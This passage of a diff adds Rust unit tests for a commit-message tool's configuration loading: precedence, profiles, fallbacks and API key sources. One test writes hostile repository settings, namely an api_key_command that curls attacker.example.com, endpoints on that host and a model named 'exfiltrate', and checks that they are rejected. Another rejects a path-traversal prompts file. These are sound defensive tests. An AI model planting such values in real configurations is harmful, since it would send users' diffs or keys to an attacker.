+        env::remove_var("OLLAMA_MODEL");
+    }
+
+    #[test]
+    fn test_model_is_kept_per_provider() {
+        let _env = crate::test_support::env_lock();
+        for name in [
+            "IAC_PROVIDER",
+            "IAC_OPENAI_MODEL",
+            "OPENAI_MODEL",
+            "IAC_OLLAMA_MODEL",
+            "OLLAMA_MODEL",
+        ] {
+            env::remove_var(name);
+        }
+        let (_dir, config) = config_with_file(
+            "model = \"gpt-4o\"\n\n[providers.ollama]\nmodel = \"qwen2.5-coder\"\n",
+        );
+        assert_eq!(config.model().as_deref(), Some("gpt-4o"));
+
+        // the top-level model is the openai one, so it does not follow a switch to ollama
+        env::set_var("IAC_PROVIDER", "ollama");
+        assert_eq!(config.model().as_deref(), Some("qwen2.5-coder"));
+        let (_dir, config) = config_with_file("model = \"gpt-4o\"\n");
+        assert_eq!(config.model(), None);
+        env::remove_var("IAC_PROVIDER");
+    }
+
+    #[test]
+    fn test_format_settings() {
+        let _env = crate::test_support::env_lock();
+        env::remove_var("IAC_BODY_WIDTH");
+        env::remove_var("IAC_SUBJECT_STRATEGY");
+        let (_dir, config) = config_with_file(
+            "[format]\nbody_width = 80\nsubject_strategy = \"truncate\"\nscopes = [\"api\"]\nrequire_scope = true\n\n[ui]\nbanner = false\n",
+        );
+
+        let options = config.format_options().unwrap();
+        assert_eq!(options.body_width, 80);
+        assert_eq!(
+            options.subject_strategy,
+            crate::commit_formatter::SubjectStrategy::Truncate
+        );
+
+        let rules = config.lint_rules();
+        assert_eq!(rules.body_wrap_width, 80);
+        assert_eq!(rules.scopes, ["api"]);
+        assert!(rules.require_scope);
+        assert_eq!(rules.types, LintRules::default().types);
+        assert!(!config.banner());
+
+        env::set_var("IAC_SUBJECT_STRATEGY", "chop");
+        assert!(config.format_options().is_err());
+        env::remove_var("IAC_SUBJECT_STRATEGY");
+    }
+
+    #[test]
+    fn test_repo_config_overrides_user_config() {
+        let _env = crate::test_support::env_lock();
+        env::remove_var("IAC_CANDIDATES");
+        let user_dir = TempDir::new().unwrap();
+        fs::create_dir_all(user_dir.path().join("iamcommitted")).unwrap();
+        fs::write(
+            user_dir.path().join("iamcommitted/config.toml"),
+            "candidates = 5\nrepair_retries = 4\n\n[format]\nscopes = [\"core\"]\n",
+        )
+        .unwrap();
+
+        let repo = TempDir::new().unwrap();
+        std::process::Command::new("git")
+            .arg("init")
+            .current_dir(repo.path())
+            .output()
+            .unwrap();
+        let service = repo.path().join("services/billing");
+        fs::create_dir_all(&service).unwrap();
+        fs::write(
+            repo.path().join(REPO_CONFIG_FILE),
+            "candidates = 2\nprompts = \"prompts.md\"\n\n[format]\nscopes = [\"api\", \"ui\"]\n",
+        )
+        .unwrap();
+        fs::write(repo.path().join("prompts.md"), "## System Prompt\n\nrepo\n").unwrap();
+        fs::write(
+            service.join(REPO_CONFIG_FILE),
+            "[format]\nscopes = [\"billing\"]\n",
+        )
+        .unwrap();
+        fs::write(
+            service.join(REPO_PROMPTS_FILE),
+            "## System Prompt\n\nbilling\n",
+        )
+        .unwrap();
+
+        env::set_var("XDG_CONFIG_HOME", user_dir.path());
+        let root_config = Config::for_working_dir(repo.path()).unwrap();
+        let service_config = Config::for_working_dir(&service).unwrap();
+        let outside_config = Config::for_working_dir(user_dir.path()).unwrap();
+        env::remove_var("XDG_CONFIG_HOME");
+
+        // repo values win, user values fill the gaps
+        assert_eq!(root_config.candidate_count(), 2);
+        assert_eq!(root_config.repair_retries(), 4);
+        assert_eq!(root_config.lint_rules().scopes, ["api", "ui"]);
+        assert!(root_config.load_prompts().unwrap().contains("repo"));
+
+        // in a monorepo the nearest file wins and the root one fills the gaps
+        assert_eq!(service_config.lint_rules().scopes, ["billing"]);
+        assert_eq!(service_config.candidate_count(), 2);
+        assert_eq!(service_config.repair_retries(), 4);
+        assert!(service_config.load_prompts().unwrap().contains("billing"));
+
+        assert_eq!(outside_config.lint_rules().scopes, ["core"]);
+        assert_eq!(
+            outside_config.prompts_path(),
+            user_dir.path().join("iamcommitted/prompts.md")
+        );
+    }
+
+    #[test]
+    fn test_repo_prompts_stay_in_the_repository() {
+        let _env = crate::test_support::env_lock();
+        let user_dir = TempDir::new().unwrap();
+        let base = TempDir::new().unwrap();
+        let repo = base.path().join("repo");
+        let service = repo.join("service");
+        fs::create_dir_all(&service).unwrap();
+        std::process::Command::new("git")
+            .arg("init")
+            .current_dir(&repo)
+            .output()
+            .unwrap();
+        let outside = base.path().join("outside.md");
+        fs::write(&outside, "# System prompt\nprivate notes\n").unwrap();
+        fs::write(service.join("team.md"), "# System prompt\nteam\n").unwrap();
+        env::set_var("XDG_CONFIG_HOME", user_dir.path());
+
+        for prompts in [
+            "../../outside.md".to_string(),
+            outside.display().to_string(),
+        ] {
+            fs::write(
+                service.join(REPO_CONFIG_FILE),
+                format!("prompts = {:?}\n", prompts),
+            )
+            .unwrap();
+            let error = Config::for_working_dir(&service).err().unwrap().to_string();
+            assert!(error.contains("outside the repository"), "{}", error);
+        }
+
+        fs::write(service.join(REPO_CONFIG_FILE), "prompts = \"team.md\"\n").unwrap();
+        let config = Config::for_working_dir(&service).unwrap();
+        assert!(config.load_prompts().unwrap().contains("team"));
+        env::remove_var("XDG_CONFIG_HOME");
+    }
+
+    #[test]
+    fn test_repo_config_cannot_set_key_sources() {
+        let _env = crate::test_support::env_lock();
+        let user_dir = TempDir::new().unwrap();
+        let repo = TempDir::new().unwrap();
+        std::process::Command::new("git")
+            .arg("init")
+            .current_dir(repo.path())
+            .output()
+            .unwrap();
+        env::set_var("XDG_CONFIG_HOME", user_dir.path());
+
+        fs::write(
+            repo.path().join(REPO_CONFIG_FILE),
+            "api_key_command = \"curl https://attacker.example.com\"\n",
+        )
+        .unwrap();
+        let error = Config::for_working_dir(repo.path())
+            .err()
+            .unwrap()
+            .to_string();
+        assert!(error.contains(REPO_CONFIG_FILE));
+        assert!(error.contains("api_key_command"));
+
+        fs::write(
+            repo.path().join(REPO_CONFIG_FILE),
+            "[profiles.team]\nkeyring = false\n",
+        )
+        .unwrap();
+        let error = Config::for_working_dir(repo.path())
+            .err()
+            .unwrap()
+            .to_string();
+        assert!(error.contains("profiles.team.keyring"));
+
+        // only the commit conventions can be shared, not where the diff is sent
+        for contents in [
+            "endpoint = \"https://attacker.example.com/v1\"\n",
+            "provider = \"ollama\"\nmodel = \"exfiltrate\"\n",
+            "profile = \"team\"\n\n[profiles.team]\nmodel = \"gpt-4o\"\n",
+            "[profiles.cheap]\nendpoint = \"https://attacker.example.com/v1\"\n",
+        ] {
+            fs::write(repo.path().join(REPO_CONFIG_FILE), contents).unwrap();
+            let error = Config::for_working_dir(repo.path())
+                .err()
+                .unwrap()
+                .to_string();
+            assert!(error.contains(REPO_CONFIG_FILE), "{}", error);
+            assert!(error.contains("cannot choose"), "{}", error);
+        }
+
+        // but it can pick one of the user's own profiles as the default
+        fs::create_dir_all(user_dir.path().join("iamcommitted")).unwrap();
+        fs::write(
+            user_dir.path().join("iamcommitted/config.toml"),
+            "[profiles.cheap]\nmodel = \"gpt-4o-mini\"\n",
+        )
+        .unwrap();
+        fs::write(repo.path().join(REPO_CONFIG_FILE), "profile = \"cheap\"\n").unwrap();
+        let config = Config::for_working_dir(repo.path()).unwrap();
+        assert_eq!(config.profile().unwrap().as_deref(), Some("cheap"));
+        assert_eq!(config.model().as_deref(), Some("gpt-4o-mini"));
+
+        fs::write(repo.path().join(REPO_CONFIG_FILE), "profile = \"team\"\n").unwrap();
+        let config = Config::for_working_dir(repo.path()).unwrap();
+        let error = config.profile().unwrap_err().to_string();
+        assert!(error.contains("Unknown profile 'team'"), "{}", error);
+        assert!(error.contains(REPO_CONFIG_FILE), "{}", error);
+        assert!(error.contains("Defined profiles: cheap"), "{}", error);
+        env::remove_var("XDG_CONFIG_HOME");
+    }
+
+    #[test]
+    fn test_api_key_sources() {
+        let _env = crate::test_support::env_lock();
+        for name in ["IAC_PROVIDER", "IAC_API_KEY_COMMAND", "IAC_OPENAI_API_KEY"] {
+            env::remove_var(name);
+        }
+        env::set_var("IAC_KEYRING", "false");
+        env::set_var("OPENAI_API_KEY", "from-env");
+        let (_dir, config) = config_with_file("");
+
+        let key = config.api_key().unwrap().unwrap();
+        assert_eq!(key.value, "from-env");
+        assert_eq!(key.source, ConfigSource::Env("OPENAI_API_KEY".to_string()));
+
+        let config = config.with_overrides(Settings {
+            api_key_command: Some("echo from-command".to_string()),
+            ..Settings::default()
+        });
+        let key = config.api_key().unwrap().unwrap();
+        assert_eq!(key.value, "from-command");
+        assert_eq!(key.source, ConfigSource::Command);
+
+        let config = config.with_overrides(Settings {
+            api_key_command: Some("exit 1".to_string()),
+            ..Settings::default()
+        });
+        assert!(config.api_key().is_err());
+
+        env::remove_var("OPENAI_API_KEY");
+        env::remove_var("IAC_KEYRING");
+    }
+
+    #[test]
+    fn test_profiles() {
+        let _env = crate::test_support::env_lock();
+        for name in [
+            "IAC_PROFILE",
+            "IAC_PROVIDER",
+            "IAC_OPENAI_MODEL",
+            "OPENAI_MODEL",
+        ] {
+            env::remove_var(name);
+        }
+        let (dir, config) = config_with_file(
+            "model = \"gpt-4o-mini\"\ncandidates = 2\n\n[profiles.strong]\nmodel = \"gpt-4o\"\n\n[profiles.local]\nprovider = \"ollama\"\nprompts = \"local.md\"\n",
+        );
+        assert_eq!(config.profile().unwrap(), None);
+        assert_eq!(config.model().as_deref(), Some("gpt-4o-mini"));
+
+        // the selected profile wins over the files, other settings still apply
+        let config = config.with_overrides(Settings {
+            profile: Some("strong".to_string()),
+            ..Settings::default()
+        });
+        assert_eq!(config.profile().unwrap().as_deref(), Some("strong"));
+        let model = config.get::<String>("model").unwrap();
+        assert_eq!(model.value, "gpt-4o");
+        assert_eq!(model.source, ConfigSource::Profile("strong".to_string()));
+        assert_eq!(config.candidate_count(), 2);
+        assert_eq!(config.keyring_account().unwrap(), "openai:strong");
+
+        // the environment wins over the profile
+        env::set_var("OPENAI_MODEL", "gpt-3.5-turbo");
+        let model = config.get::<String>("model").unwrap();
+        assert_eq!(model.value, "gpt-3.5-turbo");
+        assert_eq!(model.source, ConfigSource::Env("OPENAI_MODEL".to_string()));
+        env::remove_var("OPENAI_MODEL");
+
+        env::set_var("IAC_PROFILE", "local");
+        let config = config.with_overrides(Settings::default());
+        assert_eq!(config.provider_name(), "ollama");
+        assert_eq!(
+            config.prompts_path(),
+            dir.path().join("iamcommitted/local.md")
+        );
+
+        env::set_var("IAC_PROFILE", "fast");
+        let error = config.profile().unwrap_err().to_string();
+        assert!(error.contains("Defined profiles: local, strong"));
+        assert_eq!(config.model().as_deref(), Some("gpt-4o-mini"));
+        env::remove_var("IAC_PROFILE");
+    }
+
+    #[test]
+    fn test_fallbacks() {
+        let _env = crate::test_support::env_lock();
+        for name in [
+            "IAC_PROFILE",
+            "IAC_PROVIDER",
+            "IAC_OLLAMA_ENDPOINT",
+            "OLLAMA_ENDPOINT",
+        ] {
+            env::remove_var(name);
+        }
+        let (_dir, config) = config_with_file(
+            "model = \"gpt-4o\"\nfallbacks = [\"local\", \"openai/gpt-4o-mini\", \"ollama/llama3.2\"]\nfallback_on = [\"rate-limit\", \"auth\"]\n\n[profiles.local]\nprovider = \"mock\"\nmodel = \"tiny\"\n",
+        );
+        let fallbacks = config.fallbacks().unwrap();
+        assert_eq!(fallbacks.len(), 3);
+        assert_eq!(fallbacks[0].profile().unwrap().as_deref(), Some("local"));
+        assert_eq!(fallbacks[0].provider_name(), "mock");
+        assert_eq!(fallbacks[0].model().as_deref(), Some("tiny"));
+        assert_eq!(fallbacks[1].model().as_deref(), Some("gpt-4o-mini"));
+        assert_eq!(fallbacks[1].endpoint(), config.endpoint());
+        assert_eq!(fallbacks[2].provider_name(), "ollama");
+        assert_eq!(
+            fallbacks[2].endpoint().as_deref(),
+            Some(crate::ai::DEFAULT_OLLAMA_ENDPOINT)
+        );
+        assert_eq!(
+            config.fallback_on().unwrap(),
+            vec![ErrorClass::RateLimit, ErrorClass::Auth]
+        );
+
+        let (_dir, config) = config_with_file("fallbacks = [\"nowhere\"]\n");
+        let error = config.fallbacks().err().unwrap().to_string();
+        assert!(error.contains("neither a profile nor a provider/model pair"));
+        assert_eq!(config.fallback_on().unwrap(), DEFAULT_FALLBACK_ON);
+    }
+
+    #[test]
+    fn test_missing_configured_prompts_is_an_error() {
+        let _env = crate::test_support::env_lock();
+        let (_dir, config) = config_with_file("prompts = \"missing.md\"\n");
+        assert!(config.load_prompts().is_err());
+    }
+
+    #[test]
+    fn test_invalid_config_file_is_an_error() {
+        let _env = crate::test_support::env_lock();
+        let temp_dir = TempDir::new().unwrap();
+        fs::create_dir_all(temp_dir.path().join("iamcommitted")).unwrap();
+        fs::write(
+            temp_dir.path().join("iamcommitted/config.toml"),
+            "candidates = \"three\"\n",
+        )
+        .unwrap();
+        env::set_var("XDG_CONFIG_HOME", temp_dir.path());
+
+        assert!(Config::new().is_err());
+        env::remove_var("XDG_CONFIG_HOME");
+    }
+
     #[test]
     fn test_prompts_path() {
+        let _env = crate::test_support::env_lock();
         let temp_dir = TempDir::new().unwrap();
         env::set_var("XDG_CONFIG_HOME", temp_dir.path());
 